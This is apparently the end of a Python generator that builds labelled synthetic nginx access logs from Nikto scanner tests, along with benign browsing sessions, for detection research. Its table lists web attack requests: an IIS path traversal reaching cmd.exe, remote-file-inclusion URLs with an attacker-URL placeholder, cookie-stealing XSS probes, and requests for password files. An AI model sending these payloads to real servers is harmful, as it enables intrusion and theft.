    ('003294', '8', 'GET', '/certsrv/..%255cwinnt/system32/cmd.exe?/c+dir', 'no'),
    ('006450', '18', 'GET', '/fx29id2.txt', 'no'),
    ('006479', '8', 'GET', '/axis2/axis2-web/HappyAxis.jsp', 'no'),
    ('006524', '38', 'GET', '/login.php?-s', 'no'),
    ('006608', '8', 'GET', '@PHPMYADMINserver_sync.php?c=phpinfo()', 'no'),
    ('003882', 'c', 'GET', '/Bcwb_PATH/system/default.css.php?root_path_admin=@RFIURL', 'no'),
    ('003938', 'c', 'GET', '/BetaBlockModules/UserMessagesModule/UserMessagesModule.php?path_prefix=@RFIURL', 'no'),
    ('003939', 'c', 'GET', '/BetaBlockModules/UserPhotoModule/UserPhotoModule.php?path_prefix=@RFIURL', 'no'),
    ('003986', 'c', 'GET', '/Jobline/admin.jobline.php?mosConfig_absolute_path=@RFIURL', 'no'),
    ('004023', 'c', 'GET', '/Upload/install.php?skindir=@RFIURL', 'no'),
    ('004094', 'c', 'GET', '/admin/classes/pear/Spreadsheet/Excel/Writer/Format.php?homedir=@RFIURL', 'no'),
    ('004228', 'c', 'GET', '/afb-3-beta-2007-08-28/_includes/settings.inc.php?approot=@RFIURL?', 'no'),
    ('004339', 'c', 'GET', '/bu/bu_parse.php?bu_dir=@RFIURL?', 'no'),
    ('004435', 'c', 'GET', '/cms/meetweb/classes/ManagerResource.class.php?root_path=@RFIURL', 'no'),
    ('004491', 'c', 'GET', '/components/com_htmlarea3_xtd-c/popups/ImageManager/config.inc.php?mosConfig_absolute_path=@RFIURL', 'no'),
    ('004526', 'c', 'GET', '/components/xmlparser/loadparser.php?absoluteurl=@RFIURL', 'no'),
    ('004637', 'c', 'GET', '/digitaleye_Path/module.php?menu=@RFIURL?', 'no'),
    ('004668', 'c', 'GET', '/editor.php?newsfile=@RFIURL', 'no'),
    ('004766', 'c', 'GET', '/forum.php?cfg_file=1&fpath=@RFIURL?', 'no'),
    ('004833', 'c', 'GET', '/home.php?a=@RFIURL', 'no'),
    ('004890', 'c', 'GET', '/inc_user.php?include_path=@RFIURL', 'no'),
    ('004952', 'c', 'GET', '/include/pear/IT.php?basepath=@RFIURL', 'no'),
    ('004973', 'c', 'GET', '/includes/bbcb_mg.php?phpbb_root_path=@RFIURL?', 'no'),
    ('005029', 'c', 'GET', '/includes/morcegoCMS/adodb/adodb.inc.php?path=@RFIURL', 'no'),
    ('005075', 'c', 'GET', '/index.php?cms=@RFIURL?', 'no'),
    ('005145', 'c', 'GET', '/index.php?root_prefix=@RFIURL?', 'no'),
    ('005444', 'c', 'GET', '/modules/postguestbook/styles/internal/header.php?tpl_pgb_moddir=@RFIURL?', 'no'),
    ('005460', 'c', 'GET', '/modules/tasks/summary.inc.php?full_path=@RFIURL', 'no'),
    ('005475', 'c', 'GET', '/modulistica/mdl_save.php?CLASSPATH=@RFIURL', 'no'),
    ('005536', 'c', 'GET', '/ossigeno_modules/ossigeno-catalogo/xax/ossigeno/catalogo/common.php?ossigeno=@RFIURL?', 'no'),
    ('005558', 'c', 'GET', '/php4you.php?dir=@RFIURL?', 'no'),
    ('005611', 'c', 'GET', '/plugins/1_Adressbuch/delete.php?folder=@RFIURL', 'no'),
    ('005661', 'c', 'GET', '/portal/includes/portal_block.php?phpbb_root_path=@RFIURL', 'no'),
    ('005677', 'c', 'GET', '/projects/weatimages/demo/index.php?ini[langpack]=@RFIURL', 'no'),
    ('005754', 'c', 'GET', '/script_path/administrator/components/com_admin/admin.admin.html.php?mosConfig_absolute_path=@RFIURL?', 'no'),
    ('005902', 'c', 'GET', '/support/index.php?main=@RFIURL', 'no'),
    ('005934', 'c', 'GET', '/template/default/footer.php?ROOT_PATH=@RFIURL?cmd=ls', 'no'),
    ('005960', 'c', 'GET', '/templates/stylesheets.php?root=@RFIURL', 'no'),
    ('006028', 'c', 'GET', '/vb/includes/functions_cron.php?nextitem=@RFIURL', 'no'),
    ('006079', 'c', 'GET', '/web/BetaBlockModules/AddGroupModule/AddGroupModule.php?path_prefix=@RFIURL', 'no'),
    ('006107', 'c', 'GET', '/web/BetaBlockModules/MyGroupsModule/MyGroupsModule.php?path_prefix=@RFIURL', 'no'),
    ('006601', 'c', 'GET', '/WorkArea/upload.aspx', 'no'),
    ('000697', '4', 'GET', '/horde/test.php', 'no'),
    ('000707', '4', 'GET', '/administrator/upload.php?newbanner=1&choice=\\"<script>alert(document.cookie)</script>', 'no'),
    ('000712', '4', 'GET', '/administrator/gallery/gallery.php?directory=\\"<script>alert(document.cookie)</script>', 'no'),
    ('000716', '4', 'GET', "/article.cfm?id=1'<script>alert(document.cookie);</script>", 'no'),
    ('000720', '4', 'GET', "/modules.php?op=modload&name=News&file=article&sid=<script>alert('Vulnerable');</script>", 'no'),
    ('000739', '4', 'GET', '@CGIDIRSredir.exe?URL=http%3A%2F%2Fwww%2Egoogle%2Ecom%2F%0D%0A%0D%0A%3CSCRIPT%3Ealert%28%27Vulnerable%27%29%3C%2FSCRIPT%3E', 'no'),
    ('000741', '4', 'GET', '/webcalendar/week.php?eventinfo=<script>alert(document.cookie)</script>', 'no'),
    ('000756', '4', 'GET', "@CGIDIRSfom/fom.cgi?cmd=<script>alert('Vulnerable')</script>&file=1&keywords=vulnerable", 'no'),
    ('000765', '4', 'GET', "@CGIDIRS.cobalt/alert/service.cgi?service=<script>alert('Vulnerable')</script>", 'no'),
    ('000770', '4', 'GET', '/z_user_show.php?method=showuserlink&class=<Script>javascript:alert(document.cookie)</Script>&rollid=admin&x=3da59a9da8825&', 'no'),
    ('000780', '4', 'GET', '/templates/form_header.php?noticemsg=<script>javascript:alert(document.cookie)</script>', 'no'),
    ('000786', '4', 'GET', "/submit.php?subject=<script>alert('Vulnerable')</script>&story=<script>alert('Vulnerable')</script>&storyext=<script>alert('Vulnerable')</script>&op=Preview", 'no'),
    ('000801', '4', 'GET', '/samples/search.dll?query=<script>alert(document.cookie)</script>', 'yes'),
    ('000813', '4', 'GET', '/phpwebchat/register.php?register=yes&username=OverG&email=<script>alert%20(\\"Vulnerable\\")</script>&email1=<script>alert%20(\\"Vulnerable\\")</script>', 'no'),
    ('000817', '4', 'GET', "/phpinfo.php3?VARIABLE=<script>alert('Vulnerable')</script>", 'no'),
    ('000819', '4', 'GET', "/phpclassifieds/latestwap.php?url=<script>alert('Vulnerable');</script>", 'no'),
    ('000827', '4', 'GET', '/openautoclassifieds/friendmail.php?listing=<script>alert(document.domain);</script>', 'no'),
    ('000843', '4', 'GET', "/modules/Forums/bb_smilies.php?Default_Theme=<script>alert('Vulnerable')</script>", 'no'),
    ('000844', '4', 'GET', '/modules/Forums/bb_smilies.php?bgcolor1=\\"><script>alert(\'Vulnerable\')</script>', 'no'),
    ('000860', '4', 'GET', "/modules.php?name=Downloads&d_op=viewdownloaddetails&lid=02&ttitle=<script>alert('Vulnerable')</script>", 'no'),
    ('000861', '4', 'GET', "/modules.php?name=Classifieds&op=ViewAds&id_subcatg=75&id_catg=<script>alert('Vulnerable')</script>", 'no'),
    ('000883', '4', 'GET', "/html/chatheader.php?mainfile=anything&Default_Theme='<script>alert(document.cookie);</script>", 'no'),
    ('000895', '4', 'GET', '/downloads/pafiledb.php?action=email&id=4?\\"&lt;script&gt;alert(\'Vulnerable\')&lt;/script&gt;\\"', 'no'),
    ('000901', '4', 'GET', "/comments.php?subject=<script>alert('Vulnerable')</script>&comment=<script>alert('Vulnerable')</script>&pid=0&sid=0&mode=&order=&thold=op=Preview", 'no'),
    ('000912', '4', 'GET', "/bb000001.pl<script>alert('Vulnerable')</script>", 'no'),
    ('000915', '4', 'GET', "/apps/web/vs_diag.cgi?server=<script>alert('Vulnerable')</script>", 'no'),
    ('000923', '4', 'GET', '/?mod=<script>alert(document.cookie)</script>&op=browse', 'no'),
    ('000924', '4', 'GET', "/<script>alert('Vulnerable')</script>.thtml", 'no'),
    ('000931', '4', 'GET', '/%3cscript%3ealert(%22xss%22)%3c/script%3e/index.html', 'no'),
    ('001011', '4', 'GET', '/hp/device/this.LCDispatcher', 'no'),
    ('001223', '4', 'GET', '/affich.php?image=<script>alert(document.cookie)</script>', 'no'),
    ('001225', '4', 'GET', '/index.php?rep=<script>alert(document.cookie)</script>', 'no'),
    ('001241', '4', 'GET', '/apps/web/index.fcgi?servers=&section=<script>alert(document.cookie)</script>', 'no'),
    ('001459', '4', 'GET', '/SPHERA/login/sm_login_screen.php?uid=\\"><script>alert(\'Vulnerable\')</script>', 'no'),
    ('001487', '4', 'GET', '/index.php?vo=\\"><script>alert(document.cookie);</script>', 'no'),
    ('001503', '4', 'GET', "/shopping/shopdisplayproducts.asp?id=1&cat=<script>alert('test')</script>", 'no'),
    ('003234', '4', 'GET', '/sysuser/docmgr/mkdir.stm?path=<script>alert(document.cookie)</script>', 'no'),
    ('003240', '4', 'GET', '/sysuser/docmgr/vccheckin.stm?path=<script>alert(document.cookie)</script>', 'no'),
    ('000041', '3', 'GET', '/forums/config.php', 'no'),
    ('000165', '3', 'GET', '/web-console/ServerInfo.jsp%00', 'no'),
    ('000177', '23', 'GET', '/exchange/lib/PUBFLD.INC', 'no'),
    ('000321', '3', 'GET', '/SiteServer/Admin/knowledge/persmbr/VsPrAuoEd.asp', 'no'),
    ('000457', '3', 'GET', '/%00/', 'no'),
    ('002127', '3', 'GET', '/billing.nsf', 'no'),
    ('003336', '3', 'GET', '@CGIDIRSrwcgi60', 'no'),
    ('006439', '13', 'GET', '/webmail/src/configtest.php', 'no'),
    ('006515', '123', 'GET', '/includes/conexion.inc', 'no'),
    ('006629', '23', 'GET', '/elmah.axd', 'no'),
    ('001465', '2', 'GET', '/iissamples/issamples/oop/qfullhit.htw?CiWebHitsFile=/iissamples/issamples/oop/qfullhit.htw&CiRestriction=none&CiHiliteType=Full', 'no'),
    ('002728', '2', 'GET', '/demo/sql/index.jsp', 'no'),
    ('002773', '2', 'GET', '/test/jsp/extends2.jsp', 'no'),
    ('002780', '2', 'GET', '/test/jsp/pageInvalid.jsp', 'no'),
    ('002797', '2', 'GET', '/pls/portal30/admin_/', 'no'),
    ('002851', '2', 'GET', '/_vti_bin/fpremadm.exe', 'no'),
    ('002888', '2', 'GET', '@CGIDIRScgi-test.exe', 'no'),
    ('002930', '2', 'GET', '/readmec.nsf', 'no'),
    ('002978', '2', 'GET', '/iissamples/issamples/Winmsdp.exe', 'no'),
    ('003145', '2', 'GET', '/mcartfree/database/metacart.mdb', 'no'),
    ('001691', '1', 'GET', '/htpasswd', 'no'),
    ('001790', '1', 'GET', '/passwords/', 'no'),
    ('001992', '1', 'GET', '@CGIDIRSfilemail', 'no'),
    ('002041', '1', 'GET', '@CGIDIRSstats.prf', 'no'),
    ('002089', '1', 'GET', '/scripts/fpadmcgi.exe', 'no'),
    ('002645', '1', 'GET', '@CGIDIRSamadmin.pl', 'no'),
    ('002687', '1', 'GET', '@CGIDIRSimagefolio/admin/admin.cgi', 'no'),
    ('003394', '1', 'GET', '/IBMWebAS/configDocs/', 'no'),
    ('006249', '1', 'GET', '/administr8/', 'no'),
    ('006258', '1', 'GET', '/administratie/', 'no'),
]
# TABLE-END

# ----------------------------------------------------------------- user agents
# Browser releases current in late February 2026: Chrome/Edge 144-145, Firefox 147,
# Safari 26.2/26.3 (iOS keeps reporting "OS 18_7" since Safari 26).
UA = {
 'chw': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 Safari/537.36",
 'chw4': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Safari/537.36",
 'chm': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 Safari/537.36",
 'ffw': "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:147.0) Gecko/20100101 Firefox/147.0",
 'ffm': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:147.0) Gecko/20100101 Firefox/147.0",
 'ffa': "Mozilla/5.0 (Android 15; Mobile; rv:147.0) Gecko/147.0 Firefox/147.0",
 'sfm': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.3 Safari/605.1.15",
 'sfm2': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.2 Safari/605.1.15",
 'edg': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 Safari/537.36 Edg/145.0.0.0",
 'edg4': "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Safari/537.36 Edg/144.0.0.0",
 'edm': "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 Safari/537.36 Edg/145.0.0.0",
 'ios': "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.3 Mobile/15E148 Safari/604.1",
 'ipad': "Mozilla/5.0 (iPad; CPU OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/26.3 Mobile/15E148 Safari/604.1",
 'crios': "Mozilla/5.0 (iPhone; CPU iPhone OS 18_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/145.0.7632.41 Mobile/15E148 Safari/604.1",
 'and': "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/145.0.0.0 Mobile Safari/537.36",
 'and4': "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/144.0.0.0 Mobile Safari/537.36",
}
BROWSERS = ['chw', 'chw', 'chw', 'chw4', 'chm', 'chm', 'ffw', 'ffw', 'ffm', 'ffa', 'sfm', 'sfm2',
            'edg', 'edg', 'edg4', 'edm', 'ios', 'ios', 'ipad', 'crios', 'and', 'and', 'and4']

# ----------------------------------------------------------------- nginx
# The server: nginx (1.21.1 or later) in front of a PHP site whose front controller is
# /index.php.  It runs none of the probed products.
CGI_PREFIXES = tuple(VARIABLES['@CGIDIRS'].split(' '))

def nginx_rejects(method, target):
    """True when nginx answers 400 before any location is chosen"""
    if not re.fullmatch(r'[A-Z_-]+', method):
        return True                       # invalid method
    if not target.startswith('/'):
        return True                       # not an origin-form target ("../../etc/*")
    if any(ord(ch) <= 0x20 or ord(ch) == 0x7f for ch in target):
        return True                       # space or control byte in the request line (1.21.1+)
    path = target.split('?', 1)[0].split('#', 1)[0]
    # percent-decoding of the path: an invalid escape or %00 is an error; a decoded
    # "%" is kept literally
    dec, i = [], 0
    while i < len(path):
        if path[i] == '%':
            h = path[i + 1:i + 3]
            if len(h) < 2 or not all(c in '0123456789abcdefABCDEF' for c in h):
                return True
            v = int(h, 16)
            if v == 0:
                return True
            dec.append(chr(v))
            i += 3
        else:
            dec.append(path[i])
            i += 1
    depth = 0
    for seg in ''.join(dec).split('/'):
        if seg in ('', '.'):
            continue                      # merge_slashes on
        if seg == '..':
            depth -= 1
            if depth < 0:
                return True               # ".." above the root
        else:
            depth += 1
    return False

def status_for(cat, method, target, r):
    if nginx_rejects(method, target):
        return 400
    path = target.split('?', 1)[0]
    last = path.rstrip('/').rsplit('/', 1)[-1]
    if path in ('/', '/index.php'):
        if cat == 'sql-injection' and r.random() < 0.4:
            return 500
        return 200                        # the front controller answers
    if any(seg.startswith('.') and seg not in ('.', '..') and not seg.startswith('...')
           for seg in path.split('/')):
        return 403 if r.random() < 0.7 else 404     # location ~ /\. { deny all; }
    if path.startswith(CGI_PREFIXES) and r.random() < 0.25:
        return 403                        # a deny rule for CGI directories
    x = r.random()
    if x < 0.76:
        return 404
    if x < 0.84:
        return 403
    if x < 0.91:
        return 200                        # a catch-all route answers with the site's page
    if x < 0.96:
        return 301 if '.' not in last else 404      # directory-style name redirected
    return 302                            # sent to the login page

SIZES = {200: (1800, 42000), 201: (120, 900), 301: (162, 162), 302: (0, 154), 304: (0, 0), 400: (150, 157),
         403: (153, 153), 404: (153, 555), 405: (157, 157), 500: (177, 4200)}
ASSET_EXT = ('.css', '.js', '.svg', '.png', '.jpg', '.webp', '.woff2', '.ico', '.avif')

def size(r, st, target=''):
    lo, hi = SIZES[st]
    if st == 200 and target.split('?')[0].endswith(ASSET_EXT):
        return r.randint(2400, 160000)
    if st == 200 and target.startswith('/api/'):
        return r.randint(90, 9000)
    return r.choice([lo, hi]) if st in (302, 404, 400) else (lo if lo == hi else r.randint(lo, hi))

def esc(s):
    """nginx's escaping of logged fields: '"', '\\' and bytes outside 0x20-0x7e as \\xXX.
    Strings here hold one byte per character (latin-1)."""
    out = []
    for ch in s.encode('latin-1'):
        if ch == 0x22 or ch == 0x5c or ch < 0x20 or ch > 0x7e:
            out.append('\\x%02X' % ch)
        else:
            out.append(chr(ch))
    return ''.join(out)

def line(ip, t, request, st, sz, ref, ua):
    return '%s - - [%s] "%s" %d %d "%s" "%s"' % (ip, t.strftime('%d/%b/%Y:%H:%M:%S +0000'), esc(request),
                                                st, sz, esc(ref), esc(ua))

# ----------------------------------------------------------------- benign browsing
# Each benign source is one person with one browser on one of five kinds of site: a page,
# its assets (with the page as Referer, some revalidated as 304), then a few more pages, a
# search or API calls.  Several requests brush against this set's angle without being
# attacks: blog posts about phpMyAdmin, cgi-bin, wp-config.php or SQL injection, a docs page
# /docs/config/backup-files, searches for "cgi-bin tutorial" or "web.config", an app's own
# /api/v2/admin/... and backup-codes endpoints.
def q(s):
    return urllib.parse.quote_plus(s)

SHOP = 'https://shop.example.com'
SHOP_CATS = ['kitchen', 'outdoor', 'office', 'lighting', 'garden']
SHOP_ITEMS = ['cast-iron-skillet-26cm', 'shell-jacket-navy', 'admin-desk-organizer-oak', 'usb-c-cable-2m',
              'backup-drive-2tb', 'led-desk-lamp', 'garden-hose-reel', 'enamel-mug-set']
SHOP_Q = ['shell jacket', 'cast iron', 'backup drive', 'desk lamp', 'usb-c cable 2m', 'mug set of 4',
          "men's rain jacket", 'config cable for router']

def shop(r, i):
    cat, item = r.choice(SHOP_CATS), r.choice(SHOP_ITEMS)
    first = r.choice(['-', 'https://www.google.com/', 'https://duckduckgo.com/', 'https://www.bing.com/'])
    out = [('GET', '/', first, 200),
           ('GET', '/static/css/shop.4f1a9c.css', SHOP + '/', 200),
           ('GET', '/static/js/shop.91be2d.js', SHOP + '/', 200),
           ('GET', '/c/' + cat, SHOP + '/', 200)]
    if i % 2 == 0:
        out.append(('GET', '/search?q=' + q(r.choice(SHOP_Q)), SHOP + '/c/' + cat, 200))
    out.append(('GET', '/p/' + item, SHOP + '/c/' + cat, 200))
    out.append(('GET', '/media/products/%s-1.webp' % item, SHOP + '/p/' + item, 200))
    if i % 3 != 2:
        out.append(('POST', '/cart/add', SHOP + '/p/' + item, 200))
    return out

BLOG = 'https://blog.example.net'
BLOG_POSTS = ['2025/11/how-to-secure-phpmyadmin', '2025/12/moving-from-cgi-bin-to-fastcgi',
              '2026/01/what-belongs-in-wp-config-php', '2026/01/rotating-nginx-access-logs',
              '2025/10/restoring-a-mysql-backup-from-a-sql-file', '2026/02/why-you-should-delete-phpinfo-php',
              '2025/09/htaccess-password-protection-explained', '2026/02/sql-injection-explained-for-beginners',
              '2025/08/reading-the-etc-passwd-file-format', '2026/01/a-short-history-of-xss-filters']
BLOG_Q = ['cgi-bin tutorial', 'phpmyadmin behind nginx', 'admin panel login', 'backup script cron',
          'shell script tips', 'union select vs join']

def blog(r, i):
    post = r.choice(BLOG_POSTS)
    url = '/posts/%s/' % post
    ref = r.choice(['https://www.google.com/', 'https://news.ycombinator.com/', '-', 'https://www.reddit.com/'])
    out = [('GET', url, ref, 200),
           ('GET', '/assets/main.2b7e0c.css', BLOG + url, 200),
           ('GET', '/assets/fonts/inter-var.woff2', BLOG + '/assets/main.2b7e0c.css', 200),
           ('GET', '/images/%s/cover.avif' % post.rsplit('/', 1)[-1], BLOG + url, 200),
           ('GET', '/tags/security/', BLOG + url, 200)]
    if i % 2:
        out.append(('GET', '/search/?q=' + q(r.choice(BLOG_Q)), BLOG + '/tags/security/', 200))
    other = r.choice([p for p in BLOG_POSTS if p != post])
    out.append(('GET', '/posts/%s/' % other, BLOG + '/tags/security/', 200))
    return out

NEWS = 'https://news.example.org'
NEWS_ARTS = ['world/2026/02/24/coalition-talks-resume-after-weekend-deadlock',
             'business/2026/02/24/chipmaker-shares-rise-on-export-deal',
             'tech/2026/02/23/hospital-network-restores-systems-after-ransomware-attack',
             'tech/2026/02/24/police-arrest-admin-of-stolen-password-marketplace',
             'sport/2026/02/23/late-goal-sends-city-into-cup-quarter-final',
             'science/2026/02/24/probe-returns-first-images-from-asteroid']
NEWS_Q = ['data breach', 'election results', 'weather weekend', 'password leak', 'transfer window']

def news(r, i):
    art = r.choice(NEWS_ARTS)
    section = art.split('/', 1)[0]
    first = r.choice(['-', 'https://www.google.com/', 'https://t.co/', 'https://www.facebook.com/'])
    aid = r.randint(410000, 489999)
    out = [('GET', '/', first, 200),
           ('GET', '/_next/static/css/8c1e2a7d.css', NEWS + '/', 200),
           ('GET', '/_next/static/chunks/main-5e0f3b9a1c.js', NEWS + '/', 200),
           ('GET', '/' + art, NEWS + '/', 200),
           ('GET', '/api/comments?article=%d&page=1&sort=top' % aid, NEWS + '/' + art, 200)]
    if i % 2:
        out.append(('GET', '/search?q=' + q(r.choice(NEWS_Q)) + '&section=' + section, NEWS + '/' + art, 200))
    out.append(('GET', '/' + section + '/', NEWS + '/' + art, 200))
    return out

DOCS = 'https://docs.example.com'
DOC_PAGES = ['/docs/config/backup-files', '/docs/admin/users-and-roles', '/docs/install/upgrade-from-2x',
             '/docs/config/environment-variables', '/docs/admin/console', '/docs/security/file-uploads',
             '/docs/troubleshooting/403-forbidden', '/docs/api/v2/authentication']
DOC_Q = ['cgi-bin tutorial', 'web.config rewrite', 'restore from .sql dump', 'disable phpinfo',
         'admin password reset', 'upload size limit', 'htpasswd generator', 'config.php location']

def docs(r, i):
    p1, p2 = r.sample(DOC_PAGES, 2)
    out = [('GET', '/docs/', r.choice(['-', 'https://www.google.com/']), 200),
           ('GET', '/docs/_static/theme.css?v=3f9a1c', DOCS + '/docs/', 200),
           ('GET', '/docs/_static/searchtools.js?v=3f9a1c', DOCS + '/docs/', 200),
           ('GET', '/docs/search?q=' + q(r.choice(DOC_Q)), DOCS + '/docs/', 200),
           ('GET', p1, DOCS + '/docs/search', 200)]
    if i % 2 == 0:
        out.append(('GET', '/docs/_static/searchindex.js', DOCS + '/docs/search', 200))
    out.append(('GET', p2, DOCS + p1, 200))
    return out

APP = 'https://app.example.net'

def webapp(r, i):
    pid, tid = r.randint(11, 480), r.randint(1000, 98000)
    a = APP + '/app/'
    out = [('GET', '/app/', r.choice(['-', APP + '/login']), 200),
           ('GET', '/app/static/main.7d3e91f2.js', a, 200),
           ('GET', '/app/static/main.c04b6e18.css', a, 200),
           ('GET', '/api/v2/session', a, 200),
           ('GET', '/api/v2/projects?limit=25&sort=-updated_at', a, 200),
           ('GET', '/api/v2/projects/%d/tasks?status=open&assignee=me' % pid, a + 'projects/%d' % pid, 200)]
    extra = [('PATCH', '/api/v2/tasks/%d' % tid, a + 'tasks/%d' % tid, 200),
             ('POST', '/api/v2/tasks/%d/comments' % tid, a + 'tasks/%d' % tid, 200),
             ('GET', '/api/v2/users/me/backup-codes', a + 'settings/security', 200),
             ('GET', '/api/v2/admin/audit-log?since=2026-02-01&limit=50', a + 'admin/audit', 200),
             ('GET', '/api/v2/search?q=' + q(r.choice(['config upload', 'backup plan', 'shell migration'])), a, 200)]
    out += r.sample(extra, 1 + i % 2)
    return out

BENIGN_KINDS = [('shop-browse', shop, 8), ('blog-reader', blog, 8), ('news-reader', news, 8),
                ('docs-search', docs, 8), ('webapp-json-api', webapp, 8)]

# ----------------------------------------------------------------- write
def pick_ip(r, net, used):
    base = int(net.network_address)
    while True:
        ip = str(ipaddress.ip_address(base + r.randint(1, net.num_addresses - 2)))
        if not ip.endswith(('.0', '.255')) and ip not in used:
            used.add(ip)
            return ip

def check_disjoint(ips):
    here = os.path.basename(OUT)
    others = set()
    for f in glob.glob(os.path.join(OUT, '..', '*', '*.log')):
        if os.path.basename(os.path.dirname(f)) == here:
            continue
        with open(f, encoding='utf-8', errors='replace') as fh:
            for l in fh:
                others.add(l.split(' ', 1)[0])
    clash = sorted(set(ips) & others)
    inside = []
    for a in others:
        try:
            ip = ipaddress.ip_address(a)
        except ValueError:
            continue
        if ip.version == 4 and (ip in ATTACK_NET or ip in BENIGN_NET):
            inside.append(a)
    print('check: %d addresses here, %d in other sets\' logs, %d shared, %d of theirs inside %s or %s'
          % (len(set(ips)), len(others), len(clash), len(inside), ATTACK_NET, BENIGN_NET))
    return not clash and not inside

def main():
    if len(sys.argv) == 3 and sys.argv[1] == '--sample':
        sample(sys.argv[2])
        return
    ids = [t[0] for t in TABLE]
    assert len(TABLE) == TOTAL and len(ids) == len(set(ids)), 'the table needs 300 distinct tests'
    r = random.Random(SEED)
    order = list(range(len(TABLE)))
    r.shuffle(order)
    times = sorted(r.sample(range(4 * 60, 86400 - 5 * 60), len(TABLE)))
    lines, labels, reqrows = [], [], []
    used = set()
    for k, idx in enumerate(order):
        tid, tuning, method, uri, body = TABLE[idx]
        cat = CATNAME[category(tuning)]
        target, _ = expand(uri, r)
        ip = pick_ip(r, ATTACK_NET, used)
        ua = UA[r.choice(BROWSERS)]
        st = status_for(cat, method, target, r)
        t = DAY + datetime.timedelta(seconds=times[k])
        request = '%s %s HTTP/1.1' % (method, target)
        lines.append(line(ip, t, request, st, size(r, st, target), '-', ua))
        reqrows.append('\t'.join([ip, cat, tid, tuning, method, esc(request), SOURCE % tid, body]))
        labels.append('%s\tattack\t%s\tnikto-%s' % (ip, cat, tid))
    blines, blabels = [], []
    bused = set()
    for kind, fn, count in BENIGN_KINDS:
        for i in range(count):
            ip = pick_ip(r, BENIGN_NET, bused)
            ua = UA[r.choice(BROWSERS)]
            tt = DAY + datetime.timedelta(seconds=r.randint(15 * 60, 23 * 3600))
            reqs = fn(r, i)
            assert 5 <= len(reqs) <= 8, (kind, len(reqs))
            for method, target, ref, st in reqs:
                asset = target.split('?')[0].endswith(ASSET_EXT) or '/_static/' in target
                tt += datetime.timedelta(seconds=r.randint(0, 2) if asset else r.randint(3, 80))
                if asset and st == 200 and r.random() < 0.2:
                    st = 304
                blines.append((tt, line(ip, tt, '%s %s HTTP/1.1' % (method, target), st, size(r, st, target), ref, ua)))
            blabels.append('%s\tbenign\t%s' % (ip, kind))
    blines.sort(key=lambda x: x[0])
    assert blines[-1][0] < DAY + datetime.timedelta(days=1)
    key = lambda s: tuple(int(x) for x in s.split('\t')[0].split('.'))
    files = {
        'attacks.log': lines,
        'attacks.labels': sorted(labels, key=key),
        'requests.tsv': ['ADDRESS\tCATEGORY\tNIKTO_ID\tTUNING\tMETHOD\tREQUEST_LINE\tPUBLIC_SOURCE\tBODY_NOT_LOGGED']
                        + sorted(reqrows, key=key),
        'benign.log': [l for _, l in blines],
        'benign.labels': sorted(blabels, key=key),
    }
    for name, rows in files.items():
        with open(os.path.join(OUT, name), 'w', encoding='ascii', newline='\n') as f:
            f.write(''.join(x + '\n' for x in rows))
    if '--check' in sys.argv[1:]:
        sys.exit(0 if check_disjoint(sorted(used | bused)) else 1)

if __name__ == '__main__':
    main()
